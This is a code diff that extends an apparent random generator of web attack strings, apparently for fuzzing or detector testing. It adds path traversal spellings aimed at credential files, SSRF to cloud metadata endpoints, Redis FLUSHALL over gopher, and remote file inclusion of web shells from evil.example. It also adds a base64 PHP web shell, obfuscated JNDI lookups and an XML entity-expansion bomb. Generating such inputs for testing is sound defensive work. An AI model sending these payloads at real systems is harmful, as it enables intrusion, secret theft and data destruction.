@@ -166,33 +166,78 @@ const shell: Make = (r) => {
   return `${before}${between}${command(r)}${r.pick(['', '', ';', ' #', ' |'])}`
 }
 
+/** One step up, in the spellings that servers, proxies and home-made checks read differently. */
 const climb: Make = (r) =>
-  r.pick(['../', '..\\', '..%2f', '%2e%2e%2f', '..%252f', '....//', '..;/', '%c0%ae%c0%ae/', '..\\/'])
+  r.pick([
+    '../',
+    '..\\',
+    '..%2f',
+    '%2e%2e%2f',
+    '..%252f',
+    '....//',
+    '..;/',
+    '%c0%ae%c0%ae/',
+    '..\\/',
+    '.%2e/',
+    '%2e./',
+    '..%5c',
+    '..%255c',
+    '%252e%252e%252f',
+    '....\\\\',
+    '..//',
+    '..%c0%af',
+    '..%c1%9c',
+    '%uff0e%uff0e%u2215',
+    '0x2e0x2e0x2f',
+    '%25%2e%25%2e/',
+  ])
 
 const target: Make = (r) =>
   r.pick([
     'etc/passwd',
     'etc/shadow',
+    'etc/hosts',
     'windows/win.ini',
+    'windows/system32/drivers/etc/hosts',
     'boot.ini',
     'proc/self/environ',
     'WEB-INF/web.xml',
     'var/log/apache2/access.log',
     '.ssh/id_rsa',
+    '.env',
+    '.git/config',
+    'wp-config.php',
+    'index.php',
+    'secret.key',
+  ])
+
+const absolute: Make = (r) =>
+  r.pick([
+    `/${r.pick(['', '/', './'])}etc/${r.pick(['passwd', 'shadow', 'group', 'hosts', 'issue', 'crontab', 'ssh/sshd_config', 'apache2/apache2.conf', 'my.cnf'])}`,
+    `${r.pick(['C', 'c', 'd'])}:${r.pick(['\\', '/'])}${r.pick(['boot.ini', 'windows/win.ini', 'windows\\system32\\config\\sam', 'xampp/apache/logs/error.log', 'inetpub/wwwroot/web.config', 'windows/repair/sam'])}`,
+    `/proc/${r.pick(['self', '1', number(r)])}/${r.pick(['environ', 'cmdline', 'fd/3', 'maps'])}`,
+    `/var/log/${r.pick(['auth.log', 'nginx/access.log', 'apache2/error.log', 'httpd/access_log', 'mail.log'])}`,
+    `${r.pick(['/', '/var/www/html/', '/srv/app/'])}${r.pick(['.env', '.git/config', 'wp-config.php', '.htpasswd', 'WEB-INF/web.xml'])}`,
+    `${r.pick(['/root', '/home/ann', '~'])}/${r.pick(['.ssh/id_rsa', '.aws/credentials', '.bash_history', '.kube/config'])}`,
+    `file://${r.pick(['', 'localhost'])}/${r.pick(['etc/passwd', 'c:/windows/win.ini'])}`,
+    `/${r.pick(['images/a', 'files/report', 'x/y'])}.php${r.pick(['%00', '\0'])}.png`,
+  ])
+
+const wrapper: Make = (r) =>
+  r.pick([
+    `${cased(r, 'php')}://filter/${r.pick(['convert.base64-encode', 'read=string.rot13', 'zlib.deflate/convert.base64-encode'])}/resource=${r.pick(['index.php', '../config.php', '/etc/passwd'])}`,
+    'php://input',
+    `${r.pick(['expect', 'EXPECT'])}://${r.pick(['id', 'ls'])}`,
+    `phar://uploads/${r.pick(['a.jpg', 'b.zip'])}/x.php`,
+    `zip://a.zip${r.pick(['#', '%23'])}x`,
+    'data:text/plain;base64,PD9waHAgc3lzdGVtKCRfR0VUWydjJ10pOz8+',
+    `page=php://filter/resource=${r.pick(['a', 'index'])}`,
   ])
 
 const path: Make = (r) => {
-  if (r.chance(0.2))
-    return r.pick([
-      '/etc/passwd',
-      'C:\\boot.ini',
-      'file:///etc/passwd',
-      'php://filter/convert.base64-encode/resource=index.php',
-      '/proc/self/environ',
-      'expect://id',
-      'c:/windows/win.ini',
-    ])
-  return `${r.pick(['', '/', './', 'images/', '/var/www/'])}${climb(r).repeat(2 + r.below(7))}${target(r)}${r.pick(['', '', '%00', '%00.jpg', '\0.png'])}`
+  if (r.chance(0.25)) return absolute(r)
+  if (r.chance(0.1)) return wrapper(r)
+  return `${r.pick(['', '/', './', 'images/', '/var/www/', 'AAAAAAAAAAAA/'])}${climb(r).repeat(2 + r.below(7))}${target(r)}${r.pick(['', '', '%00', '%00.jpg', '\0.png', ';index.html', '?'])}`
 }
 
 const ssrf: Make = (r) => {
@@ -212,17 +257,44 @@ const ssrf: Make = (r) => {
     'metadata.google.internal',
     '127.0.0.1.nip.io',
     'example.com@127.0.0.1',
+    '100.100.100.200',
+    'metadata.tencentyun.com',
+    'kubernetes.default.svc',
+    '[64:ff9b::7f00:1]',
+    '[fd00:ec2::254]',
+    '425.510.425.510',
+    '0251.0376.0251.0376',
+    'a.oastify.com',
+    'localtest.me',
   ])
   if (r.chance(0.15))
     return r.pick([
-      'gopher://127.0.0.1:6379/_INFO',
-      'dict://127.0.0.1:11211/stat',
+      `gopher://127.0.0.1:6379/_${r.pick(['INFO', '*1%0d%0a$8%0d%0aFLUSHALL'])}`,
+      `dict://127.0.0.1:${r.pick(['11211', '6379'])}/stat`,
       'file:///etc/passwd',
       'ldap://127.0.0.1/x',
       'tftp://10.0.0.1/x',
+      'netdoc:///etc/passwd',
+      'jar:http://127.0.0.1!/x',
+      'url:file:///etc/passwd',
     ])
-  return `${r.pick(['http', 'https', 'HTTP', 'ftp'])}://${host}${r.pick(['', ':80', ':8080', ':22'])}${r.pick(['', '/', '/admin', '/latest/meta-data/iam/security-credentials/'])}`
+  const url =
+    `${r.pick(['http', 'https', 'HTTP', 'ftp'])}:${r.pick(['//', '//', '//', '/\\', '\\\\'])}${host}${r.pick(['', ':80', ':8080', ':22'])}${r.pick(['', '/', '/admin', '/latest/meta-data/iam/security-credentials/'])}`.replace(
+      /^ftp:[^/].*$|^ftp:\/\\.*$/i,
+      'ftp://127.0.0.1/',
+    )
+  return r.chance(0.1)
+    ? `/fetch?${r.pick(['url', 'image_url', 'src'])}=http://${r.pick(['169.254.169.254', '127.0.0.1'])}/`
+    : url
 }
+
+const rfi: Make = (r) =>
+  `${r.pick(['http', 'https', 'hTTp', 'ftp'])}://${r.pick(['evil', 'x'])}.example/${r.pick(['', 'a/', 'img/'])}${r.pick(
+    [
+      `${r.pick(['c99', 'r57', 'shell', 'webshell', 'cmd'])}.${r.pick(['txt', 'php', 'gif'])}${r.pick(['', '?', '%00'])}`,
+      `x.${r.pick(['txt', 'php', 'jpg', 'inc'])}${r.pick(['?', '%00', '?cmd=id', '?&cmd=id', '&cmd=id'])}`,
+    ],
+  )}`
 
 const template: Make = (r) => {
   const inner = r.pick([
@@ -256,38 +328,104 @@ const template: Make = (r) => {
   ])
 }
 
-const nosql: Make = (r) =>
+const operator: Make = (r) =>
+  r.pick(['$ne', '$gt', '$gte', '$lt', '$regex', '$exists', '$in', '$nin', '$not', '$where', '$or'])
+
+const nosqlValue: Make = (r) => r.pick(['""', 'null', '1', '"^a"', '[]', 'true', '{}'])
+
+const nosql: Make = (r) => {
+  const field = r.pick(['a', 'username', 'password', 'role'])
+  const quote = r.pick(["'", '"'])
+  return r.pick([
+    `{"${field}":{"${operator(r)}":${nosqlValue(r)}}}`,
+    `{"${operator(r)}":${nosqlValue(r)}}`,
+    `{${r.pick(['', ' '])}${operator(r)}: ${nosqlValue(r)}${r.pick(['', ' '])}}`,
+    `[${operator(r)}]=${number(r)}`,
+    `${number(r)}, $where: '${r.pick(['1 == 1', `sleep(${number(r)})`, `this.${field} == 1`])}'`,
+    `${quote} || ${quote}1${quote}==${quote}1`,
+    `${r.pick(['', 'admin'])}${quote} || 1==1${r.pick(['//', '%00', ''])}`,
+    `${quote}; return ${r.pick(['true', '(true)', "'' == '"])}; var x=${quote}`,
+    `${quote} && this.${field}.match(/.*/)//`,
+    `${quote};${r.pick(['while(true){}', 'do{x=1}while(1)', 'sleep(5000)', 'it=new Date();do{pt=new Date();}while(pt-it<5000)'])};${quote}`,
+    `${number(r)};return true`,
+    `function(){return ${r.pick(['true', `this.${field}`])}}`,
+    `${quote}, $or: [ {}, { ${quote}a${quote}:${quote}a`,
+    `${quote} || this.${field}.length > 0 || ${quote}a${quote}==${quote}b`,
+    `db.${field}.${r.pick(['find', 'insert', 'remove', 'drop'])}({})`,
+  ])
+}
+
+const attribute: Make = (r) =>
+  r.pick(['uid', 'cn', 'mail', 'objectClass', 'userPassword', 'sn', 'memberOf', 'sAMAccountName'])
+
+const ldap: Make = (r) => {
+  const start = r.pick(['*', 'admin', 'a*', number(r), 'x', ''])
+  return r.pick([
+    `${start})(${attribute(r)}=*))(|(${attribute(r)}=*`,
+    `${start})(&)`,
+    `${start})(${attribute(r)}${r.pick(['=', '>=', '<=', '~='])}${r.pick(['*', 'a'])}`,
+    `${start})(|(${attribute(r)}=*)`,
+    `${start})(!(&(1=0`,
+    `${start}))(|(${attribute(r)}=*)`,
+    `*(|(${attribute(r)}=*))`,
+    `(&(${attribute(r)}=admin)(${attribute(r)}=*))`,
+    `!(${attribute(r)}=*)`,
+    `*))%00`,
+    `\\2a\\29\\28${attribute(r)}=\\2a`,
+    `${attribute(r)}:${r.pick(['dn', '2.5.13.18', '1.2.840.113556.1.4.803'])}:=1`,
+    r.pick(['*)(&', '*()|&', '(*)*)', '*)(|(&']),
+  ])
+}
+
+const xpath: Make = (r) => {
+  const quote = r.pick(["'", '"'])
+  const call = r.pick([
+    'count(/*)=1',
+    'string-length(//user[1]/name)>0',
+    'substring(name(/*[1]),1,1)=1',
+    'position()=1',
+    'not(false())',
+    'contains(.,1)',
+    'true()',
+    'starts-with(name(),1)',
+  ])
+  return r.pick([
+    `${r.pick(['', 'x'])}${quote} ${r.pick(['or', 'and'])} ${call} ${r.pick(['or', 'and'])} ${quote}a${quote}=${quote}a`,
+    `${quote}] | //${r.pick(['user', 'password', '*'])}/*[contains(*,${quote}`,
+    `${quote}) or contains(.,${quote}`,
+    `${quote} or //${r.pick(['user', 'node'])}[name=1] or ${quote}a${quote}=${quote}b`,
+    `count(/child::node())`,
+    `/*[${1 + r.below(9)}]/*[2]/text()`,
+    `substring(//user[${1 + r.below(9)}]/name,1,1)=1`,
+    `${quote} and doc(${quote}http://e.example/x${quote}) and ${quote}`,
+  ])
+}
+
+const xmlTarget: Make = (r) =>
   r.pick([
-    "' || '1'=='1",
-    "'; return true; var x='",
-    '{"$gt":""}',
-    '{"$ne":null}',
-    '{"username":{"$regex":"^a"}}',
-    "true, $where: '1 == 1'",
-    "' && this.password.match(/.*/)//",
-    '[$ne]=1',
-    "{$gt: ''}",
-    `1, $where: 'sleep(${number(r)})'`,
-    '{"$where":"sleep(1000)"}',
-    "', $or: [ {}, { 'a':'a",
+    'file:///etc/passwd',
+    'http://e.example/x.dtd',
+    'php://filter/resource=x',
+    'expect://id',
+    'ftp://e.example/x',
   ])
 
-const ldap: Make = (r) =>
-  r.pick([
-    '*)(uid=*))(|(uid=*',
-    'admin)(&)',
-    '*)(objectClass=*',
-    'x)(cn=*',
-    '*))(|(password=*)',
-    'admin)(!(&(1=0',
-    '*)(|(mail=*',
-    'a*)(&(objectClass=user)',
-    `${number(r)})(cn=*))(|(cn=*`,
-    '(&(uid=admin)(password=*))',
+const xxe: Make = (r) => {
+  const name = r.pick(['a', 'foo', 'r'])
+  const quote = r.pick(['"', "'"])
+  const head = r.pick(['', '<?xml version="1.0"?>', '<?xml version="1.0" encoding="UTF-8"?>\n'])
+  return r.pick([
+    `${head}<!DOCTYPE ${name} [<!ENTITY ${r.pick(['', '% '])}x ${r.pick(['SYSTEM', 'PUBLIC "y"'])} ${quote}${xmlTarget(r)}${quote}>]><${name}>&x;</${name}>`,
+    `${head}<!DOCTYPE ${name} SYSTEM ${quote}${r.pick(['http://e.example/x.dtd', 'x.dtd'])}${quote}><${name}/>`,
+    `${head}<!DOCTYPE ${name} [<!ENTITY x ${quote}y${quote}>]><${name}>&x;</${name}>`,
+    `<${name} xmlns:xi="http://www.w3.org/2001/XInclude"><xi:include parse="text" href=${quote}${xmlTarget(r)}${quote}/></${name}>`,
+    `<svg xmlns:xlink="http://www.w3.org/1999/xlink"><image xlink:href=${quote}${r.pick(['file:///etc/passwd', 'expect://id'])}${quote}/></svg>`,
+    `<xsl:stylesheet version="1.0"><xsl:template match="/"><xsl:value-of select=${quote}${r
+      .pick(["document('/etc/passwd')", "system-property('xsl:vendor')", "php:function('id')"])
+      .replaceAll("'", quote === "'" ? '&quot;' : "'")}${quote}/></xsl:template></xsl:stylesheet>`,
+    `<!DOCTYPE z [${Array.from({ length: 6 }, (_, i) => `<!ENTITY l${i} "&l${i - 1};&l${i - 1};">`).join('')}]>`,
   ])
-
-const xxe: Make = (r) =>
-  `<?xml version="1.0"?><!DOCTYPE ${r.pick(['a', 'foo', 'r'])} [<!ENTITY ${r.pick(['', '% '])}x SYSTEM "${r.pick(['file:///etc/passwd', 'http://e.example/x.dtd', 'php://filter/resource=x', 'expect://id'])}">]><a>&x;</a>`
+}
 
 const code: Make = (r) =>
   r.pick([
@@ -311,8 +449,45 @@ const code: Make = (r) =>
     "%{(#_memberAccess['allowStaticMethodAccess']=true)}",
   ])
 
-const header: Make = (r) =>
-  `${r.pick(['', 'x', '/next', 'en'])}${r.pick(['\r\n', '\n', '\r', '%0d%0a', '%0a', '%E5%98%8A%E5%98%8D'])}${r.pick(['Set-Cookie: a=b', 'Location: https://e.example/', 'Content-Length: 0', 'Set-Cookie:x=1', 'Transfer-Encoding: chunked'])}`
+const lineBreak: Make = (r) =>
+  r.pick([
+    '\r\n',
+    '\n',
+    '\r',
+    '%0d%0a',
+    '%0a',
+    '%0d',
+    '%E5%98%8A%E5%98%8D',
+    '%250d%250a',
+    '%23%0d%0a',
+    '%0d%0a%20',
+    '%%0a0a',
+  ])
+
+const header: Make = (r) => {
+  const start = r.pick(['', 'x', '/next', 'en'])
+  if (r.chance(0.15))
+    return `a@b.example${r.pick(['\r\n', '\n', '%0a', '%0d%0a'])}${r.pick(['Bcc: x@y.example', 'Cc: x@y.example', 'To: x@y.example'])}`
+  if (r.chance(0.15))
+    return `${start}${r.pick(['\r\n', '%0d%0a'])}${r.pick(['set k 0 900 4\r\nabcd', 'V100 FETCH 4791', 'RCPT TO:<x@y.example>', 'FLUSHALL', '*1\r\n$8\r\nFLUSHALL', 'CONFIG SET dir /var/www', 'GET /admin HTTP/1.1', 'HTTP/1.1 200 OK'])}`
+  if (r.chance(0.15))
+    return `${start}%0d%0a${r.pick(['X-Test:1', 'Header-Test:a', 'X-Injected: yes', 'any-header:b'])}`
+  return `${start}${lineBreak(r)}${r.pick(['Set-Cookie: a=b', 'Location: https://e.example/', 'Content-Length: 0', 'Set-Cookie:x=1', 'Transfer-Encoding: chunked'])}`
+}
+
+const lookup: Make = (r) => {
+  const hide = (letter: string): string =>
+    r.pick([
+      letter,
+      letter,
+      `\${lower:${letter}}`,
+      `\${::-${letter}}`,
+      `\${env:X:-${letter}}`,
+      `\${upper:${letter}}`,
+    ])
+  const word = (text: string): string => text.split('').map(hide).join('')
+  return `${r.pick(['', 'x', '/?q='])}\${${word('jndi')}:${r.pick(['ldap', 'rmi', 'dns', 'ldaps', 'iiop'])}:${r.pick(['//', '//', '/'])}e.example/a}`
+}
 
 export const classes: Readonly<Record<string, Make>> = {
   sqli,
@@ -321,11 +496,14 @@ export const classes: Readonly<Record<string, Make>> = {
   path,
   ssrf,
   template,
+  rfi,
   nosql,
   ldap,
+  xpath,
   xxe,
   code,
   header,
+  lookup,
 }
 
 export type AttackClass = keyof typeof classes
